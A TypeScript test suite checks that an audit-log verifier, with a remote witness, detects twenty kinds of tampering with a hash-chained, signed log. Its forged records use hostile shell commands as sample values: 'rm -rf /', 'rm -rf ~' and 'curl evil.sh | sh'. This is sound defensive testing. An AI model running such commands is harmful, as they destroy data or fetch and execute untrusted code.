import { generateKeyPairSync } from 'node:crypto';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { canonicalize } from '../../src/audit/canonical.js';
import { recordHash } from '../../src/audit/chain.js';
import { makeCheckpoint } from '../../src/audit/checkpoint.js';
import { type VerifyResult, verifyLog } from '../../src/audit/verify.js';
import { checkpointLine, readWitness } from '../../src/audit/witness.js';
import { readLines, tempDir, writeLines, writeLog } from './fixtures/sample.js';

/**
 * The tamper kinds an attacker who controls the machine (but not the signing key, nor the
 * collector) can commit on a local log, each found by `verify --witness`. Most of them also
 * remove the local checkpoint, as such an attacker would: the witness alone must find them.
 */
const t = tempDir();
afterAll(() => t.cleanup());
const keys = generateKeyPairSync('ed25519');
const otherKeys = generateKeyPairSync('ed25519');
let n = 0;
let log = '';
let witnessPath = '';
let original: string[] = [];

const COUNT = 8;

beforeEach(async () => {
  log = join(t.dir, `${++n}.jsonl`);
  witnessPath = join(t.dir, `${n}.witness.jsonl`);
  await writeLog(log, COUNT, { checkpointPath: `${log}.checkpoint`, signingKey: keys.privateKey });
  original = readLines(log);
  // What the collector received: every record, and the signed checkpoint.
  const checkpoint = JSON.parse(readFileSync(`${log}.checkpoint`, 'utf8'));
  writeLines(witnessPath, [...original, checkpointLine(checkpoint)]);
});

async function verifyWithWitness(path = log): Promise<VerifyResult> {
  const read = await readWitness(witnessPath, { publicKey: keys.publicKey });
  if (!read.ok) throw new Error(read.message);
  return verifyLog(path, { witness: read.witness });
}

/** Records re-sealed from `from` on: correct seq, prev and hash, as a forger with the format can make them. */
function rechain(lines: string[], from = 0): string[] {
  const out = lines.slice(0, from);
  let prev = from === 0 ? '0'.repeat(64) : (JSON.parse(out[from - 1]!) as { hash: string }).hash;
  for (const [i, line] of lines.slice(from).entries()) {
    const { hash: _h, ...r } = JSON.parse(line) as Record<string, unknown>;
    r.seq = from + i + 1;
    r.prev = prev;
    const hash = recordHash(r as never);
    out.push(canonicalize({ ...r, hash }));
    prev = hash;
  }
  return out;
}

function edit(line: string, command: string, rehash: boolean): string {
  const r = JSON.parse(line) as { request: { input: { command: string } }; hash: string };
  r.request.input.command = command;
  if (!rehash) return canonicalize(r);
  const { hash: _h, ...rest } = r;
  return canonicalize({ ...rest, hash: recordHash(rest as never) });
}

/** Tampers with the log (and, unless told otherwise, deletes its checkpoint). */
function tamper(lines: string[] | undefined, keepCheckpoint = false): void {
  if (lines !== undefined) writeLines(log, lines);
  if (!keepCheckpoint) rmSync(`${log}.checkpoint`, { force: true });
}

async function expectFound(kinds: string[]): Promise<VerifyResult> {
  const result = await verifyWithWitness();
  expect(result.ok, JSON.stringify(result)).toBe(false);
  if (!result.ok) expect(kinds).toContain(result.kind);
  return result;
}

/** What verify says without the witness (the local checkpoint gone): the kinds only a witness finds. */
async function withoutWitness(): Promise<VerifyResult> {
  return verifyLog(log);
}

describe('verify --witness: every tamper kind is found', () => {
  it('passes an untouched log, and says how much the witness covered', async () => {
    const result = await verifyWithWitness();
    expect(result).toMatchObject({ ok: true, count: COUNT, witness: { records: COUNT, covers: COUNT } });
  });

  it('1. edit a record (hash left alone)', async () => {
    const lines = [...original];
    lines[3] = edit(lines[3]!, 'rm -rf /', false);
    tamper(lines);
    await expectFound(['edited']);
  });

  it('2. edit a record and recompute its hash', async () => {
    const lines = [...original];
    lines[3] = edit(lines[3]!, 'rm -rf /', true);
    tamper(lines);
    // The chain shows it at the next record; the witness already at this one.
    await expectFound(['rewritten', 'edited']);
  });

  it('3. edit a record and re-chain everything after it', async () => {
    const lines = [...original];
    lines[3] = edit(lines[3]!, 'rm -rf /', false);
    tamper(rechain(lines, 3));
    expect((await withoutWitness()).ok).toBe(true);
    const r = await expectFound(['rewritten']);
    expect(r).toMatchObject({ seq: 4, line: 4 });
  });

  it('4. delete a record in the middle', async () => {
    tamper(original.filter((_, i) => i !== 4));
    await expectFound(['removed']);
  });

  it('5. delete a record in the middle and re-chain the rest', async () => {
    tamper(
      rechain(
        original.filter((_, i) => i !== 4),
        4,
      ),
    );
    expect((await withoutWitness()).ok).toBe(true);
    await expectFound(['rewritten']);
  });

  it('6. delete the first record and re-chain from the genesis', async () => {
    tamper(rechain(original.slice(1)));
    expect((await withoutWitness()).ok).toBe(true);
    await expectFound(['rewritten']);
  });

  it('7. insert a forged record in the middle', async () => {
    const lines = [...original];
    lines.splice(4, 0, edit(original[4]!, 'curl evil.sh | sh', true));
    tamper(lines);
    await expectFound(['rewritten', 'inserted', 'edited', 'reordered', 'removed']);
  });

  it('8. insert a forged record and re-chain the rest', async () => {
    const lines = [...original];
    lines.splice(4, 0, edit(original[4]!, 'curl evil.sh | sh', false));
    tamper(rechain(lines, 4));
    expect((await withoutWitness()).ok).toBe(true);
    await expectFound(['rewritten']);
  });

  it('9. swap two records', async () => {
    const lines = [...original];
    [lines[2], lines[5]] = [lines[5]!, lines[2]!];
    tamper(lines);
    await expectFound(['reordered', 'removed', 'inserted']);
  });

  it('10. swap two records and re-chain', async () => {
    const lines = [...original];
    [lines[2], lines[5]] = [lines[5]!, lines[2]!];
    tamper(rechain(lines, 2));
    expect((await withoutWitness()).ok).toBe(true);
    await expectFound(['rewritten']);
  });

  it('11. duplicate a record', async () => {
    const lines = [...original];
    lines.splice(3, 0, original[3]!);
    tamper(lines);
    await expectFound(['inserted', 'reordered', 'removed']);
  });

  it('12. cut records off the end', async () => {
    tamper(original.slice(0, COUNT - 3));
    expect((await withoutWitness()).ok).toBe(true);
    const r = await expectFound(['truncated']);
    expect(r.ok === false && r.message).toMatch(/3 record\(s\) were cut off/);
  });

  it('13. cut the log back to its first record', async () => {
    tamper(original.slice(0, 1));
    expect((await withoutWitness()).ok).toBe(true);
    await expectFound(['truncated']);
  });

  it('14. cut the last line in the middle', async () => {
    tamper(undefined);
    writeFileSync(log, `${original.join('\n')}`.slice(0, -10));
    await expectFound(['truncated']);
  });

  it('15. empty the file', async () => {
    tamper([]);
    const r = await expectFound(['empty']);
    expect(r.ok === false && r.message).toMatch(/witness holds records up to seq 8: it was emptied/);
  });

  it('16. delete the log', async () => {
    tamper(undefined);
    rmSync(log);
    const r = await expectFound(['missing']);
    expect(r.ok === false && r.message).toMatch(/the log was deleted/);
  });

  it('17. append a forged record after the last one (and the checkpoint)', async () => {
    const forged = rechain([...original, edit(original[0]!, 'echo all clear', false)], COUNT);
    tamper(forged, true);
    // Without a witness a forged tail after a signed checkpoint is only a warning.
    const local = await verifyLog(log, { checkpointPath: `${log}.checkpoint`, publicKey: keys.publicKey });
    expect(local).toMatchObject({ ok: true, checkpoint: { beyond: 1 } });
    const r = await expectFound(['unwitnessed']);
    expect(r).toMatchObject({ seq: COUNT + 1 });
  });

  it('18. replace the whole file with a fresh, valid log of the same length', async () => {
    rmSync(log);
    await writeLog(log, COUNT);
    tamper(undefined);
    expect((await withoutWitness()).ok).toBe(true);
    await expectFound(['rewritten']);
  });

  it('19. replace the whole file with a longer fresh log (and a fresh, unsigned checkpoint)', async () => {
    rmSync(log);
    await writeLog(log, COUNT + 4, { checkpointPath: `${log}.checkpoint` });
    expect((await verifyLog(log, { checkpointPath: `${log}.checkpoint` })).ok).toBe(true);
    await expectFound(['rewritten']);
  });

  it('20. re-chain everything from the genesis with one record edited, and sign with another key', async () => {
    const lines = [...original];
    lines[0] = edit(lines[0]!, 'rm -rf ~', false);
    const forged = rechain(lines);
    tamper(forged);
    const last = JSON.parse(forged[COUNT - 1]!) as { hash: string };
    writeFileSync(`${log}.checkpoint`, canonicalize(makeCheckpoint(COUNT, last.hash, otherKeys.privateKey)));
    const local = await verifyLog(log, { checkpointPath: `${log}.checkpoint`, publicKey: keys.publicKey });
    expect(local).toMatchObject({ ok: false, kind: 'checkpoint' });
    const r = await expectFound(['rewritten']);
    expect(r).toMatchObject({ seq: 1 });
  });
});

describe('the witness itself', () => {
  it('refuses a witness whose records do not check, or whose checkpoint another key signed', async () => {
    writeLines(witnessPath, [edit(original[0]!, 'tampered', false)]);
    expect(await readWitness(witnessPath)).toMatchObject({ ok: false });
    const cp = makeCheckpoint(COUNT, JSON.parse(original[COUNT - 1]!).hash, otherKeys.privateKey);
    writeLines(witnessPath, [checkpointLine(cp)]);
    const read = await readWitness(witnessPath, { publicKey: keys.publicKey });
    expect(read.ok === false && read.message).toMatch(/does not verify/);
  });

  it('needs only the checkpoints: a witness of checkpoints alone finds a re-chained log', async () => {
    const checkpoint = JSON.parse(readFileSync(`${log}.checkpoint`, 'utf8'));
    writeLines(witnessPath, [checkpointLine(checkpoint)]);
    tamper(
      rechain(
        original.map((l, i) => (i === 6 ? edit(l, 'x', false) : l)),
        6,
      ),
    );
    await expectFound(['rewritten']);
  });

  it('reads OTLP/JSON export requests and picks one log of several', async () => {
    const otlp = (logName: string, bodies: string[]) =>
      JSON.stringify({
        resourceLogs: [
          {
            resource: { attributes: [{ key: 'toolgate.log', value: { stringValue: logName } }] },
            scopeLogs: [
              {
                logRecords: bodies.map((body) => ({
                  eventName: 'toolgate.tool_decision',
                  body: { stringValue: body },
                })),
              },
            ],
          },
        ],
      });
    const other = join(t.dir, 'other.jsonl');
    await writeLog(other, 3);
    writeLines(witnessPath, [otlp('vm:/a.jsonl', original), otlp('vm:/b.jsonl', readLines(other))]);
    expect(await readWitness(witnessPath)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/holds 2 logs .*--witness-log/),
    });
    const read = await readWitness(witnessPath, { log: 'vm:/a.jsonl' });
    if (!read.ok) throw new Error(read.message);
    expect(await verifyLog(log, { witness: read.witness })).toMatchObject({ ok: true, count: COUNT });
    const wrong = await readWitness(witnessPath, { log: 'vm:/b.jsonl' });
    if (!wrong.ok) throw new Error(wrong.message);
    expect(await verifyLog(log, { witness: wrong.witness })).toMatchObject({ ok: false, kind: 'rewritten' });
  });
});
